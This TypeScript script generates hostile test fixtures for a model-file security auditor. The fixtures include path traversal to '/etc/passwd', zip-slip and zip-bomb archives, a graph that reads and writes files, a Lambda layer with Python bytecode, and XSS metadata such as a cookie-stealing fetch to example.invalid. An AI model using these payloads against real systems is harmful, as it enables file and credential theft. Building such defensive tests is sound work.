/**
 * Writes the hostile model-file corpus into tests/fixtures/hostile-corpus/: malformed and
 * suspicious ONNX files, TF.js folders whose manifests point outside their folder or promise the
 * wrong number of bytes, and zips that slip, bomb or nest. Beside them, corpus.json says for each
 * entry what must happen: the hygiene codes the audit must report, and whether inspection and
 * opening must succeed or refuse with a ModelError. Deterministic: running it twice writes the same bytes.
 *
 *   npx tsx scripts/make-hostile-corpus.ts
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { zipSync } from 'fflate';
import type { onnx as OnnxTypes } from 'onnx-proto';
import { onnx } from '../src/runtime/onnx-proto';

const OUT = join(dirname(fileURLToPath(import.meta.url)), '..', 'tests', 'fixtures', 'hostile-corpus');

/** What the tests require of one corpus entry. */
export interface CorpusEntry {
  /** File or folder, relative to the corpus folder. */
  path: string;
  description: string;
  /** inspectModel: 'ok' (findings recorded on the model) or 'refused' (a ModelError). */
  inspect: 'ok' | 'refused';
  /** openModelInNode: 'either' where the engine's verdict is not ours to promise. */
  open: 'ok' | 'refused' | 'either';
  /** Hygiene codes auditModelFiles must report. */
  codes: string[];
  /** The most serious severity among them. */
  worst: 'low' | 'medium' | 'high';
}

// ───────────── a small valid model of each format: 3 features → 2 classes ─────────────

const W = [1, -1, 0.5, 0.25, -2, 1];
const B = [0.1, -0.2];
const { DataType } = onnx.TensorProto;
const AttrType = onnx.AttributeProto.AttributeType;

const tensorType = (elemType: number, dims: (number | string)[]): OnnxTypes.ITypeProto => ({
  tensorType: { elemType, shape: { dim: dims.map((d) => (typeof d === 'number' ? { dimValue: d } : { dimParam: d })) } },
});
const floatTensor = (name: string, dims: number[], values: number[]): OnnxTypes.ITensorProto => ({ name, dims, dataType: DataType.FLOAT, floatData: values });
const node = (opType: string, input: string[], output: string[], domain = '', attribute: OnnxTypes.IAttributeProto[] = []): OnnxTypes.INodeProto =>
  ({ opType, input, output, domain, attribute, name: `${opType}_${output[0]}` });

function linearGraph(overrides: Partial<OnnxTypes.IGraphProto> = {}): OnnxTypes.IGraphProto {
  return {
    name: 'linear_softmax',
    node: [node('MatMul', ['x', 'W'], ['xw']), node('Add', ['xw', 'B'], ['logits']), node('Softmax', ['logits'], ['probs'], '', [{ name: 'axis', type: AttrType.INT, i: 1 }])],
    initializer: [floatTensor('W', [3, 2], W), floatTensor('B', [2], B)],
    input: [{ name: 'x', type: tensorType(DataType.FLOAT, ['N', 3]) }],
    output: [{ name: 'probs', type: tensorType(DataType.FLOAT, ['N', 2]) }],
    ...overrides,
  };
}

function onnxModel(graph: OnnxTypes.IGraphProto, extra: Partial<OnnxTypes.IModelProto> = {}, opsets: [string, number][] = [['', 13]]): Uint8Array {
  return onnx.ModelProto.encode(onnx.ModelProto.create({
    irVersion: 7,
    producerName: 'trustgrade-hostile-corpus',
    producerVersion: '1',
    opsetImport: opsets.map(([domain, version]) => ({ domain, version })),
    graph,
    ...extra,
  })).finish();
}

/** The W initializer kept in an external file at `location`. */
function externalW(location: string): OnnxTypes.ITensorProto {
  return {
    name: 'W', dims: [3, 2], dataType: DataType.FLOAT, dataLocation: onnx.TensorProto.DataLocation.EXTERNAL,
    externalData: [{ key: 'location', value: location }, { key: 'offset', value: '0' }, { key: 'length', value: '24' }],
  };
}

/** Twenty Ifs inside each other; the innermost passes x through. */
function deeplyNested(levels: number): OnnxTypes.IGraphProto {
  const passThrough = (out: string): OnnxTypes.IGraphProto => ({
    name: `pass_${out}`, node: [node('Identity', ['x'], [out])], output: [{ name: out, type: tensorType(DataType.FLOAT, ['N', 3]) }],
  });
  let inner = passThrough('level_0');
  for (let level = 1; level <= levels; level++) {
    const out = `level_${level}`;
    inner = {
      name: `if_${level}`,
      node: [node('If', ['flag'], [out], '', [
        { name: 'then_branch', type: AttrType.GRAPH, g: inner },
        { name: 'else_branch', type: AttrType.GRAPH, g: passThrough(`else_${level}`) },
      ])],
      output: [{ name: out, type: tensorType(DataType.FLOAT, ['N', 3]) }],
    };
  }
  return {
    name: 'deeply_nested',
    node: [...(inner.node ?? []), node('MatMul', [`level_${levels}`, 'W'], ['xw']), node('Add', ['xw', 'B'], ['probs'])],
    initializer: [{ name: 'flag', dims: [], dataType: DataType.BOOL, int32Data: [1] }, floatTensor('W', [3, 2], W), floatTensor('B', [2], B)],
    input: [{ name: 'x', type: tensorType(DataType.FLOAT, ['N', 3]) }],
    output: [{ name: 'probs', type: tensorType(DataType.FLOAT, ['N', 2]) }],
  };
}

const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const float32Bytes = (values: number[]): Uint8Array => new Uint8Array(new Float32Array(values).buffer);
const WEIGHTS = float32Bytes([...W, ...B]);

/** A Keras Sequential Dense(3 → 2, softmax) as TF.js layers-model JSON, with extra layers appended. */
function layersModelJson(paths: string[], extraLayers: unknown[] = [], extra: Record<string, unknown> = {}, weights?: unknown[]): Uint8Array {
  return text(JSON.stringify({
    format: 'layers-model',
    generatedBy: 'trustgrade-hostile-corpus',
    convertedBy: null,
    modelTopology: {
      keras_version: '2.1.4',
      backend: 'tensorflow',
      model_config: {
        class_name: 'Sequential',
        config: [
          { class_name: 'Dense', config: { name: 'dense_1', trainable: true, batch_input_shape: [null, 3], dtype: 'float32', units: 2, activation: 'softmax', use_bias: true } },
          ...extraLayers,
        ],
      },
    },
    weightsManifest: [{
      paths,
      weights: weights ?? [{ name: 'dense_1/kernel', shape: [3, 2], dtype: 'float32' }, { name: 'dense_1/bias', shape: [2], dtype: 'float32' }],
    }],
    ...extra,
  }));
}

/** A TF.js graph model whose graph also reads and writes files. */
function graphWithFileOps(): Uint8Array {
  const f = { type: 'DT_FLOAT' };
  const dims = (...sizes: number[]) => ({ dim: sizes.map((s) => ({ size: String(s) })) });
  return text(JSON.stringify({
    format: 'graph-model',
    generatedBy: 'trustgrade-hostile-corpus',
    convertedBy: null,
    modelTopology: {
      node: [
        { name: 'x', op: 'Placeholder', attr: { dtype: f, shape: { shape: dims(-1, 3) } } },
        { name: 'W', op: 'Const', attr: { value: { tensor: { dtype: 'DT_FLOAT', tensorShape: dims(3, 2) } }, dtype: f } },
        { name: 'B', op: 'Const', attr: { value: { tensor: { dtype: 'DT_FLOAT', tensorShape: dims(2) } }, dtype: f } },
        { name: 'secret_path', op: 'Const', attr: { value: { tensor: { dtype: 'DT_STRING', tensorShape: dims() } }, dtype: { type: 'DT_STRING' } } },
        { name: 'secret', op: 'ReadFile', input: ['secret_path'] },
        { name: 'leak', op: 'WriteFile', input: ['secret_path', 'secret'] },
        { name: 'xw', op: 'MatMul', input: ['x', 'W', '^leak'], attr: { T: f, transpose_a: { b: false }, transpose_b: { b: false } } },
        { name: 'logits', op: 'BiasAdd', input: ['xw', 'B'], attr: { T: f } },
        { name: 'probs', op: 'Softmax', input: ['logits'], attr: { T: f } },
      ],
      library: {},
      versions: { producer: 1 },
    },
    weightsManifest: [{ paths: ['group1-shard1of1.bin'], weights: [{ name: 'W', shape: [3, 2], dtype: 'float32' }, { name: 'B', shape: [2], dtype: 'float32' }] }],
  }));
}

/** Zip entries with a fixed date so the bytes do not change between runs. */
const zip = (entries: Record<string, Uint8Array>): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, [v, { mtime: new Date(2020, 0, 1) }]])));

/** A zip whose directory claims every entry unpacks to 4 GB: refused before anything is inflated. */
function declaredBomb(): Uint8Array {
  const bytes = zip({ 'model.onnx': onnxModel(linearGraph()) });
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  for (let i = 0; i + 4 <= bytes.length; i++) {
    const signature = view.getUint32(i, true);
    if (signature === 0x04034b50) view.setUint32(i + 22, 0xf0000000, true);
    if (signature === 0x02014b50) view.setUint32(i + 24, 0xf0000000, true);
  }
  return bytes;
}

// ───────────── the corpus ─────────────

interface Built extends CorpusEntry {
  files: Record<string, Uint8Array>;
}

const file = (path: string, bytes: Uint8Array, rest: Omit<CorpusEntry, 'path'>): Built => ({ path, ...rest, files: { [path]: bytes } });
const folder = (path: string, files: Record<string, Uint8Array>, rest: Omit<CorpusEntry, 'path'>): Built =>
  ({ path, ...rest, files: Object.fromEntries(Object.entries(files).map(([name, bytes]) => [`${path}/${name}`, bytes])) });

function corpus(): Built[] {
  const linear = onnxModel(linearGraph());
  const tfjsTraversal = { 'model.json': layersModelJson(['../secret/group1-shard1of1.bin']) };
  return [
    // ONNX
    folder('onnx-external-data', { 'model.onnx': onnxModel(linearGraph({ initializer: [externalW('weights.bin'), floatTensor('B', [2], B)] })), 'weights.bin': float32Bytes(W) }, {
      description: 'Weights kept in a separate file inside the folder: not covered by the SHA-256, never opened.',
      inspect: 'ok', open: 'refused', codes: ['onnx-external-data'], worst: 'medium',
    }),
    file('onnx-external-data-traversal.onnx', onnxModel(linearGraph({ initializer: [externalW('../../secret/weights.bin'), floatTensor('B', [2], B)] })), {
      description: "External data at '../../secret/weights.bin': a runtime that follows it reads outside the folder.",
      inspect: 'ok', open: 'refused', codes: ['onnx-external-data-outside-folder'], worst: 'high',
    }),
    file('onnx-external-data-absolute.onnx', onnxModel(linearGraph({ initializer: [externalW('/etc/passwd'), floatTensor('B', [2], B)] })), {
      description: 'External data at an absolute path.',
      inspect: 'ok', open: 'refused', codes: ['onnx-external-data-outside-folder'], worst: 'high',
    }),
    file('onnx-external-data-encoded.onnx', onnxModel(linearGraph({ initializer: [externalW('%2e%2e/%2e%2e/etc/passwd'), floatTensor('B', [2], B)] })), {
      description: 'External data behind percent-encoded dots, which URL resolution turns into ../.',
      inspect: 'ok', open: 'refused', codes: ['onnx-external-data-outside-folder'], worst: 'high',
    }),
    file('onnx-custom-domain.onnx', onnxModel(
      linearGraph({ node: [node('MatMul', ['x', 'W'], ['xw']), node('Add', ['xw', 'B'], ['logits']), node('Exfiltrate', ['logits'], ['probs'], 'com.evil')] }),
      {}, [['', 13], ['com.evil', 1]],
    ), {
      description: "An operator from the made-up domain 'com.evil', which would need a native custom-operator library.",
      inspect: 'ok', open: 'refused', codes: ['onnx-custom-operators'], worst: 'medium',
    }),
    file('onnx-future-version.onnx', onnxModel(linearGraph(), { irVersion: 99 }, [['', 99]]), {
      description: 'IR version 99 and opset 99, which do not exist.',
      inspect: 'ok', open: 'refused', codes: ['onnx-unknown-version'], worst: 'low',
    }),
    file('onnx-ancient-version.onnx', onnxModel(linearGraph(), { irVersion: 2 }, [['', 1]]), {
      description: 'IR version 2 and opset 1, from before ONNX 1.2.',
      inspect: 'ok', open: 'either', codes: ['onnx-old-version'], worst: 'low',
    }),
    file('onnx-metadata-markup.onnx', onnxModel(linearGraph({ docString: '<img src=x onerror=alert(document.cookie)>' }), {
      metadataProps: [
        { key: 'description', value: '<script>fetch("https://example.invalid/?c=" + document.cookie)</script>' },
        { key: 'homepage', value: 'javascript:alert(1)' },
        { key: 'payload', value: 'A'.repeat(70 * 1024) },
      ],
    }), {
      description: 'Script and markup in metadata and doc strings, and a 70 kB metadata value.',
      inspect: 'ok', open: 'ok', codes: ['onnx-metadata-markup', 'onnx-metadata-large', 'onnx-metadata'], worst: 'low',
    }),
    file('onnx-size-mismatch.onnx', onnxModel(linearGraph({
      initializer: [{ name: 'W', dims: [100000, 100000], dataType: DataType.FLOAT, rawData: float32Bytes(W) }, floatTensor('B', [2], B)],
    })), {
      description: 'A weight that declares 100,000 × 100,000 floats (40 GB) but holds 24 bytes.',
      inspect: 'ok', open: 'refused', codes: ['onnx-tensor-size-mismatch', 'onnx-very-large-weights'], worst: 'medium',
    }),
    file('onnx-deep-nesting.onnx', onnxModel(deeplyNested(20)), {
      description: 'Twenty If operators nested inside each other.',
      inspect: 'ok', open: 'either', codes: ['onnx-deep-nesting'], worst: 'medium',
    }),
    file('onnx-truncated.onnx', linear.subarray(0, Math.floor(linear.length / 2)), {
      description: 'A valid model cut in half.',
      inspect: 'refused', open: 'refused', codes: ['onnx-unreadable'], worst: 'medium',
    }),
    file('onnx-disguised-json.onnx', text('{"modelTopology": "not really"}'), {
      description: 'JSON text with an .onnx name.',
      inspect: 'refused', open: 'refused', codes: ['onnx-unreadable'], worst: 'medium',
    }),
    // TF.js
    folder('tfjs-path-traversal', tfjsTraversal, {
      description: "A manifest that names '../secret/group1-shard1of1.bin', outside the model's folder.",
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-absolute-path', { 'model.json': layersModelJson(['/etc/passwd']) }, {
      description: "A manifest that names '/etc/passwd'.",
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-url-path', { 'model.json': layersModelJson(['https://example.invalid/weights.bin']) }, {
      description: 'A manifest that names a URL, which an HTTP loader would fetch.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-backslash-traversal', { 'model.json': layersModelJson(['..\\..\\weights.bin']) }, {
      description: 'Traversal written with Windows backslashes.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-encoded-traversal', { 'model.json': layersModelJson(['%2e%2e/%2e%2e/weights.bin']) }, {
      description: 'Traversal behind percent-encoded dots, which a browser decodes when it fetches the file.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-nul-path', { 'model.json': layersModelJson(['group1-shard1of1.bin\u0000.png']), 'group1-shard1of1.bin': WEIGHTS }, {
      description: 'A path with a NUL character, which C-based file APIs cut short.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
    folder('tfjs-shard-too-short', { 'model.json': layersModelJson(['group1-shard1of1.bin']), 'group1-shard1of1.bin': WEIGHTS.subarray(0, 20) }, {
      description: 'A weight file 12 bytes shorter than the manifest says.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-shard-length'], worst: 'medium',
    }),
    folder('tfjs-shard-too-long', { 'model.json': layersModelJson(['group1-shard1of1.bin']), 'group1-shard1of1.bin': float32Bytes([...W, ...B, 666, 666]) }, {
      description: 'A weight file with 8 bytes more than the manifest declares.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-shard-length'], worst: 'medium',
    }),
    folder('tfjs-shard-missing', { 'model.json': layersModelJson(['group1-shard1of1.bin']) }, {
      description: 'The weight file the manifest names is not there.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-shard-missing'], worst: 'medium',
    }),
    folder('tfjs-shard-repeated', { 'model.json': layersModelJson(['group1-shard1of1.bin', 'group1-shard1of1.bin']), 'group1-shard1of1.bin': WEIGHTS }, {
      description: 'The same weight file named twice in one group.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-shard-repeated', 'tfjs-shard-length'], worst: 'medium',
    }),
    folder('tfjs-huge-declared', {
      'model.json': layersModelJson(['group1-shard1of1.bin'], [], {}, [{ name: 'dense_1/kernel', shape: [100000, 100000], dtype: 'float32' }, { name: 'dense_1/bias', shape: [2], dtype: 'float32' }]),
      'group1-shard1of1.bin': WEIGHTS,
    }, {
      description: 'A manifest that declares a 40 GB kernel for a 32-byte file.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-shard-length', 'tfjs-very-large-weights'], worst: 'medium',
    }),
    folder('tfjs-lambda-layer', {
      'model.json': layersModelJson(['group1-shard1of1.bin'], [{
        class_name: 'Lambda',
        config: { name: 'lambda_1', function: ['4wEAAAAAAAAAAQAAAAIAAABDAAAAcwgAAAB0AKAAoQBTACkBTikB2gJvc6kAcgMAAAByAwAAAPoIPHN0ZGluPtoIPGxhbWJkYT4BAAAA8wAAAAA=', null, null], function_type: 'lambda', arguments: {} },
      }]),
      'group1-shard1of1.bin': WEIGHTS,
    }, {
      description: 'A Keras Lambda layer carrying marshalled Python bytecode.',
      inspect: 'ok', open: 'refused', codes: ['tfjs-lambda-layer'], worst: 'high',
    }),
    folder('tfjs-custom-layer', {
      'model.json': layersModelJson(['group1-shard1of1.bin'], [{ class_name: 'ExfiltrateLayer', config: { name: 'exfiltrate_1' } }]),
      'group1-shard1of1.bin': WEIGHTS,
    }, {
      description: 'A layer class TF.js does not provide.',
      inspect: 'ok', open: 'refused', codes: ['tfjs-custom-layer'], worst: 'low',
    }),
    folder('tfjs-graph-file-ops', { 'model.json': graphWithFileOps(), 'group1-shard1of1.bin': WEIGHTS }, {
      description: 'A graph model that reads and writes files (ReadFile, WriteFile) when run in TensorFlow.',
      inspect: 'ok', open: 'either', codes: ['tfjs-file-or-code-ops'], worst: 'high',
    }),
    folder('tfjs-metadata-markup', {
      'model.json': layersModelJson(['group1-shard1of1.bin'], [], { userDefinedMetadata: { note: '<script>alert(1)</script>', link: 'javascript:alert(1)' } }),
      'group1-shard1of1.bin': WEIGHTS,
    }, {
      description: 'Script in userDefinedMetadata.',
      inspect: 'ok', open: 'ok', codes: ['tfjs-metadata-markup'], worst: 'low',
    }),
    folder('tfjs-not-json', { 'model.json': text('{"modelTopology": {"class_name": "Sequential", "config": [') }, {
      description: 'A model.json cut off in the middle.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-unreadable'], worst: 'medium',
    }),
    // Zips
    file('zip-slip.zip', zip({ 'model.onnx': linear, '../../evil.sh': text('#!/bin/sh\necho owned\n') }), {
      description: "An entry '../../evil.sh' that unpacks outside the target folder (zip slip).",
      inspect: 'refused', open: 'refused', codes: ['zip-unsafe-entry'], worst: 'high',
    }),
    file('zip-absolute.zip', zip({ 'model.onnx': linear, '/tmp/evil.sh': text('#!/bin/sh\necho owned\n') }), {
      description: 'An entry with an absolute path.',
      inspect: 'refused', open: 'refused', codes: ['zip-unsafe-entry'], worst: 'high',
    }),
    file('zip-declared-bomb.zip', declaredBomb(), {
      description: 'A zip whose directory claims its entry unpacks to 4 GB.',
      inspect: 'refused', open: 'refused', codes: ['zip-too-large'], worst: 'high',
    }),
    file('zip-nested.zip', zip({ 'inner.zip': zip({ 'model.onnx': linear }) }), {
      description: 'A zip that holds another zip.',
      inspect: 'refused', open: 'refused', codes: ['zip-nested', 'no-model-found'], worst: 'medium',
    }),
    file('zip-corrupt.zip', zip({ 'model.onnx': linear }).subarray(0, 60), {
      description: 'A zip cut short.',
      inspect: 'refused', open: 'refused', codes: ['zip-unreadable'], worst: 'medium',
    }),
    file('zip-tfjs-traversal.zip', zip(Object.fromEntries(Object.entries(tfjsTraversal).map(([k, v]) => [`model/${k}`, v]))), {
      description: 'The path-traversal TF.js model, zipped.',
      inspect: 'refused', open: 'refused', codes: ['tfjs-path-outside-folder'], worst: 'high',
    }),
  ];
}

function main(): void {
  rmSync(OUT, { recursive: true, force: true });
  const entries = corpus();
  for (const entry of entries) {
    for (const [path, bytes] of Object.entries(entry.files)) {
      const full = join(OUT, path);
      mkdirSync(dirname(full), { recursive: true });
      writeFileSync(full, bytes);
    }
  }
  const manifest = entries.map(({ files: _files, ...entry }) => entry);
  writeFileSync(join(OUT, 'corpus.json'), `${JSON.stringify({ schema: 'trustgrade.hostile-corpus/1', entries: manifest }, null, 2)}\n`);
  console.log(`Wrote ${entries.length} hostile entries to ${OUT}`);
}

main();
